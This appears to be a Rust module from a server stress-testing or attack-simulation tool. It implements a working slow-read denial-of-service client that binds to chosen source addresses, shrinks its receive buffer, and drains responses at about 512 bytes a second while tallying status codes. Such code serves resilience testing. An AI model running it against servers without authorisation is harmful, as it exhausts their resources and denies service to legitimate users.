//! Clients that request much and read hardly anything.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::attacker::Tally;
use crate::fleet::StopFlag;

/// 512 bytes a second.
const READ: usize = 128;
const PERIOD: Duration = Duration::from_millis(250);
/// A small buffer, so that the kernel does not read on behalf of the client.
const BUFFER: u32 = 4_096;

/// Sends a request again and again, and reads each response slowly, until `stop`.
pub(crate) async fn read_slowly(
    server: SocketAddr,
    from: IpAddr,
    request: Vec<u8>,
    stop: StopFlag,
    tally: Tally,
) {
    while !stop.is_set() {
        let Ok(mut stream) = connect(server, from).await else {
            tally.count(0);
            stop.sleep(PERIOD).await;
            continue;
        };
        // A refused request may be answered before it has been sent.
        let _ = stream.write_all(&request).await;
        let mut is_counted = false;
        while !stop.is_set() {
            let mut bytes = [0; READ];
            let read = tokio::time::timeout(PERIOD, stream.read(&mut bytes)).await;
            let count = match read {
                Err(_) => continue,
                Ok(read) => read.unwrap_or(0),
            };
            if !is_counted {
                is_counted = true;
                tally.count(status(&bytes[..count]));
            }
            if count == 0 {
                break;
            }
            stop.sleep(PERIOD).await;
        }
    }
}

/// A connection from this address with a small receive buffer.
async fn connect(server: SocketAddr, from: IpAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(BUFFER)?;
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(server).await
}

/// The status in the first bytes of a response, 0 if there is none.
fn status(bytes: &[u8]) -> u16 {
    let text = String::from_utf8_lossy(bytes);
    text.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0)
}
